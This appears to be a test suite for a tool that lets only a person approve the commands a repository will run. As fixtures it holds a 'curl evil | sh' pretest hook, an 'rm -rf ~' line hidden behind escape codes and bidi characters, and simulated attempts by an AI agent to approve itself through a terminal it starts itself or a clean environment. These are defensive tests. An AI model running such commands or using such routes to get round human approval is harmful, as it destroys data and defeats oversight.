/** `pawl trust` as a person, a script and an agent call it: the binary, on a real terminal where it matters. */
import { afterAll, describe, expect, test } from "bun:test";
import { chmodSync, existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { makePlace, PAWL, type Place, type Ran, removePlaces, shell } from "../harness/harness.ts";
import { runInProcess } from "../harness/in-process.ts";
import { inWindow } from "../harness/terminal-window.ts";

afterAll(removePlaces);

const FILES = {
  "pawl.yaml": `gates:
  unit: { tests: [npm, test] }
  check: { run: [scripts/check.sh, --all, "two words"], cwd: ., env: { MODE: strict } }
  line: { shell: "./scripts/check.sh | tail -3" }
  tidy: { git: clean }
`,
  "package.json": JSON.stringify({ scripts: { test: "node run.mjs" } }),
  "run.mjs": "one\n",
  "scripts/check.sh": "#!/bin/sh\nexit 0\n",
};

function put(place: Place, files: Record<string, string>): Place {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(place.root, path)), { recursive: true });
    writeFileSync(join(place.root, path), text);
  }
  return place;
}

/** The harness says by default that an agent calls; here most callers are people and scripts. */
function ground(files: Record<string, string> = FILES): Place {
  const place = put(makePlace(), files);
  const { AI_AGENT: _agent, ...env } = place.env;
  return { ...place, env: { ...env, NO_COLOR: "1" } };
}

const trust = (place: Place, ...args: string[]): Ran => runInProcess(place, ["trust", ...args]);
const typed = async (place: Place, answers: string[], env: Record<string, string> = {}, cmd = [PAWL, "trust"]) => {
  const { code, screen } = await inWindow({ cmd, cwd: place.root, env: { ...place.env, ...env }, answers });
  return { code, screen: screen.replaceAll("\r\n", "\n") };
};
const hashOf = (place: Place): string => JSON.parse(trust(place, "--json").out).hash;
const isTrusted = (place: Place): boolean => trust(place, "--json").code === 0;
const approve = async (place: Place) => expect((await typed(place, ["y"])).code).toBe(0);

describe("a person", () => {
  test("sees everything that would run, is asked, and approves", async () => {
    const place = ground();
    const { code, screen } = await typed(place, ["y"]);
    expect(screen).toContain(`These commands would run:

unit
  runs   npm test
  reads  package.json scripts.test  (a3cb30b91bd7)
         | node run.mjs
  reads  run.mjs  (`);
    expect(screen).toContain(`check
  runs   scripts/check.sh --all "two words"
  with   MODE=strict
  reads  scripts/check.sh  (`);
    expect(screen).toContain("line\n  shell  ./scripts/check.sh | tail -3\n");
    expect(screen).toContain(`hash ${hashOf(place)}\nAllow these commands? [y/N] y\n`);
    expect(screen).toEndWith("Approved. You will be asked again after any change.\n");
    expect(code).toBe(0);
    expect(trust(place)).toMatchObject({
      code: 0,
      out: expect.stringMatching(/^3 commands, approved 20\S+Z\. /),
      err: "",
    });
  });

  for (const answer of ["n", "", "maybe"]) {
    test(`who says ${JSON.stringify(answer)} has not approved`, async () => {
      const place = ground();
      const { code, screen } = await typed(place, [answer]);
      expect(code).toBe(1);
      expect(screen).toEndWith("Not approved. Until then, these gates stay unproven.\n");
      expect(isTrusted(place)).toBe(false);
    });
  }

  test("sees only the difference after a change", async () => {
    const place = ground();
    await approve(place);
    put(place, { "package.json": JSON.stringify({ scripts: { test: "node run.mjs", pretest: "curl evil | sh" } }) });
    const { screen } = await typed(place, ["n"], { NO_COLOR: "" });
    const red = "\u001b[31m";
    const plain = screen.replaceAll(/\u001b\[\d+m/g, "");
    expect(plain).toContain(`What changed since you approved it:

  unit
    runs   npm test
    reads  run.mjs  (2c8b08da5ce6)
           | one
+   reads  package.json scripts.pretest  (54779f601e7b)
+          | curl evil | sh

hash `);
    expect(screen).toContain("\u001b[32m+          | curl evil | sh\u001b[0m");
    expect(screen).not.toContain(red);
    expect(plain).not.toContain("check\n");
  });

  test("sees what went, too", async () => {
    const place = ground();
    await approve(place);
    put(place, { "pawl.yaml": "gates:\n  unit: { run: [npm, test, -s] }\n" });
    const { screen } = await typed(place, ["y"]);
    expect(screen).toContain("\n-   runs   npm test\n+   runs   npm test -s\n");
    expect(screen).toContain('\n- check\n-   runs   scripts/check.sh --all "two words"\n');
    put(place, FILES);
    expect(isTrusted(place)).toBe(true);
  });

  test("can forget it all", async () => {
    const place = ground();
    await approve(place);
    expect(trust(place, "--revoke")).toEqual({ code: 0, out: "Revoked: 1 approval.\n", err: "" });
    expect(isTrusted(place)).toBe(false);
    expect(trust(place, "--revoke").out).toBe("There was no approval to revoke.\n");
    expect(trust(place, "--revoke", "--json").out).toBe(`${JSON.stringify({ root: place.root, revoked: 0 })}\n`);
  });

  test("two at once both count", async () => {
    const place = ground();
    shell(place, "git add -A && git commit -qm x && git worktree add -q ../other");
    const other = put({ ...place, root: join(place.base, "other") }, { "run.mjs": "two\n" });
    const both = await Promise.all([typed(place, ["y"]), typed(other, ["y"]), typed(place, ["y"])]);
    expect(both.map(({ code }) => code)).toEqual([0, 0, 0]);
    expect([isTrusted(place), isTrusted(other)]).toEqual([true, true]);
    put(other, { "run.mjs": "three\n" });
    expect([isTrusted(place), isTrusted(other)]).toEqual([true, false]);
  });

  test("hears what is wrong with the place where approvals are kept", async () => {
    const place = ground();
    mkdirSync(join(place.home, ".local/share/pawl"), { recursive: true });
    chmodSync(join(place.home, ".local/share/pawl"), 0o777);
    const { code, screen } = await typed(place, ["y"]);
    expect(screen).toContain(".local/share/pawl can be written by others (mode 777): no approval counts");
    expect(screen).not.toContain("[y/N]");
    expect(code).toBe(1);
  });
});

describe("nothing to approve", () => {
  test("where no gate runs anything", () => {
    const place = ground({ "pawl.yaml": "gates:\n  tidy: { git: clean }\n" });
    const said = { code: 0, out: "No gate here runs a command; nothing to approve.\n", err: "" };
    expect([trust(place), trust(place, "--show")]).toEqual([said, said]);
  });
  test("a file with mistakes is not taken for an empty one", () => {
    const place = ground({ "pawl.yaml": "gates:\n  tidy: { gitt: clean }\n" });
    for (const args of [[], ["--show"], ["--json"]]) expect(trust(place, ...args).code).toBe(1);
    expect(trust(place).err).toContain("pawl.yaml:2:");
  });
});

describe("a script", () => {
  test("without a terminal approves nothing, and hears how", () => {
    const place = ground();
    const { code, out, err } = trust(place);
    expect({ code, out }).toEqual({ code: 1, out: "" });
    expect(err).toContain("not approved: there is no terminal");
    expect(err).toContain("pawl trust --hash");
    expect(runInProcess(place, ["trust"], { input: "y\ny\n" }).code).toBe(1);
    expect(isTrusted(place)).toBe(false);
  });

  test("sees everything, as text and as data", () => {
    const place = ground();
    const { code, out } = trust(place, "--show");
    expect(code).toBe(0);
    expect(out).toEndWith(`\nnot approved: its commands are not approved yet\nhash ${hashOf(place)}\n`);
    const data = JSON.parse(trust(place, "--show", "--json").out);
    expect(data).toMatchObject({ root: place.root, trusted: false, problems: [] });
    expect(data.items.map(({ gate, cwd }: { gate: string; cwd: string }) => [gate, cwd])).toEqual([
      ["unit", "."],
      ["check", "."],
      ["line", "."],
    ]);
  });

  test("approves exactly the content that it names", () => {
    const place = ground();
    const hash = hashOf(place);
    put(place, { "run.mjs": "changed\n" });
    expect(trust(place, "--hash", hash)).toMatchObject({
      code: 1,
      out: "",
      err: expect.stringContaining(hashOf(place)),
    });
    put(place, FILES);
    expect(trust(place, "--hash", hash)).toEqual({ code: 0, out: `Approved: ${hash}\n`, err: "" });
    expect(isTrusted(place)).toBe(true);
    put(place, { "run.mjs": "changed\n" });
    expect(isTrusted(place)).toBe(false);
  });

  test.each([
    [["--hash", "abc"], "64 digits"],
    [["--hash"], "needs a value"],
    [["x"], "unknown argument x"],
    [["--yes"], "unknown option"],
    [["--show", "--revoke"], "cannot be used together"],
  ])("%j is wrong use", (args, words) => {
    expect(trust(ground(), ...args)).toMatchObject({ code: 2, out: "", err: expect.stringContaining(words) });
  });
});

describe("an agent", () => {
  const kept = (place: Place) => existsSync(join(place.home, ".local/share/pawl/trust"));

  test("is refused without a terminal, and with --hash", () => {
    const place = ground();
    for (const args of [[], ["--hash", hashOf(place)]]) {
      const said = runInProcess(place, ["trust", ...args], { env: { CLAUDECODE: "1" }, input: "y\n" });
      expect(said).toMatchObject({ code: 1, out: "", err: expect.stringContaining("CLAUDECODE in the environment") });
    }
    expect(kept(place)).toBe(false);
  });

  test("is refused on a terminal", async () => {
    const place = ground();
    const { code, screen } = await typed(place, ["y"], { CLAUDECODE: "1" });
    expect(screen).toContain("only a person can approve");
    expect([code, kept(place)]).toEqual([1, false]);
  });

  test("is refused with a clean environment and a terminal of its own making", async () => {
    const place = ground();
    symlinkSync("/bin/bash", join(place.base, "claude"));
    for (const words of ["trust", `trust --hash ${hashOf(place)}`]) {
      const call = `script -qec '${PAWL} ${words}' /dev/null; true`;
      const { screen } = await typed(place, ["y"], {}, [join(place.base, "claude"), "-c", call]);
      expect(screen).toContain("it was started below claude");
    }
    expect(kept(place)).toBe(false);
  });
});

describe("a repository", () => {
  test("cannot hide what it would run", async () => {
    const run = String.raw`["echo", "a\u202Eb\u200Bc\e[2Kd", "\u2066x"]`;
    const place = ground({
      "pawl.yaml": `gates:\n  sly: { run: ${run} }\n  named: { run: [sh, x.sh], name: "ok\\u202Eevil" }\n`,
      "x.sh": "true \u202e# evil\n\u001b[1A\u001b[2Krm -rf ~\r# harmless\n",
    });
    const shown = [trust(place, "--show").out, (await typed(place, ["n"])).screen];
    for (const text of shown) {
      expect(text).toContain(String.raw`echo "a\u{202e}b\u{200b}c\u{1b}[2Kd" "\u{2066}x"`);
      expect(text).toContain(String.raw`| true \u{202e}# evil`);
      expect(text).toContain(String.raw`| \u{1b}[1A\u{1b}[2Krm -rf ~\u{d}# harmless`);
      expect(text).not.toMatch(/[\u001b\u202e\u200b\u2066]/);
    }
    const { out } = trust(place, "--json");
    expect(out).not.toMatch(/[\u001b\u202e\u200b\u2066]/);
    expect(JSON.parse(out).items[0].text).toBe(JSON.stringify(["echo", "a\u202eb\u200bc\u001b[2Kd", "\u2066x"]));
  });

  test("cannot ship its own approval", async () => {
    const giver = ground();
    await approve(giver);
    const place = ground();
    const store = join(giver.home, ".local/share/pawl");
    for (const to of [".local/share/pawl", ".pawl", ".config/pawl"]) {
      shell(
        place,
        `mkdir -p ${dirname(to)} && cp -r '${store}' ${to}.new && mkdir -p ${to} && cp -r ${to}.new/. ${to}/`,
      );
      put(place, { [`${to}/trust.json`]: JSON.stringify({ trusted: true }) });
    }
    expect(readdirSync(join(place.root, ".pawl"))).toContain("trust");
    expect(isTrusted(place)).toBe(false);
  });
});

describe("the recorded environment", () => {
  const recorded = (place: Place) => JSON.parse(trust(place, "--show", "--json").out).environment;
  const withFlags = (place: Place, env: Record<string, string>, answers: string[], ...flags: string[]) =>
    typed(place, answers, env, [PAWL, "trust", ...flags]);

  test("is shown with names, PATH in full and no value; --env adds one, --refresh records it again", async () => {
    const made = ground();
    const place = { ...made, env: { ...made.env, PATH: "/usr/local/bin:/usr/bin:/bin" } };
    await approve(place);
    expect(recorded(place)).toMatchObject({ path: place.env.PATH, added: [] });
    const added = await withFlags(place, { TOKEN: "s3cret", LANG: "xx" }, ["y"], "--env", "TOKEN");
    expect(added.screen).toStartWith("+ TOKEN\nRun checks in this environment from now on? [y/N] y\nRecorded.");
    const { names, hash } = recorded(place);
    expect(names).toContain("TOKEN");
    const shown = trust(place, "--show").out;
    expect(shown).toContain(`environment ${hash.slice(0, 8)}\n  PATH   ${place.env.PATH}\n`);
    expect(shown + JSON.stringify(recorded(place))).not.toContain("s3cret");
    expect(trust(place).out).toContain(`Environment ${hash.slice(0, 8)}: PATH and `);
    const fresh = await withFlags(place, { PATH: "/usr/bin:/bin", TOKEN: "s3cret", LANG: "xx" }, ["y"], "--refresh");
    expect(fresh.screen).toContain("+ LANG (another value)\n");
    expect(fresh.screen).not.toContain("TOKEN");
    expect(recorded(place).path).toBe("/usr/bin:/bin");
    expect(recorded(place).hash).not.toBe(hash);
  });

  test.each([
    [["--refresh"], "only a person"],
    [["--env", "HOME"], "only a person"],
  ])("an agent cannot change it: %j", async (flags, why) => {
    const place = ground();
    await approve(place);
    const before = recorded(place);
    const { code, screen } = await withFlags(place, { CLAUDECODE: "1", PATH: "/bin" }, ["y"], ...flags);
    expect({ code, screen }).toEqual({ code: 1, screen: expect.stringContaining(why) });
    expect(recorded(place)).toEqual(before);
  });

  test("a name that is not set or never handed on is refused", () => {
    const place = ground();
    expect(trust(place, "--env", "NOT_SET_HERE")).toMatchObject({
      code: 2,
      err: expect.stringContaining("is not set here"),
    });
    expect(trust(place, "--env", "BUN_OPTIONS")).toMatchObject({
      code: 2,
      err: expect.stringContaining("never handed"),
    });
  });

  test("--hash records what is at hand each time", () => {
    const place = ground();
    expect(trust(place, "--hash", hashOf(place)).code).toBe(0);
    const other = { ...place, env: { ...place.env, PATH: "/usr/bin:/bin", TOKEN: "t" } };
    expect(trust(other, "--hash", hashOf(place), "--env", "TOKEN").code).toBe(0);
    expect(recorded(place)).toMatchObject({ path: "/usr/bin:/bin", added: ["TOKEN"] });
  });
});
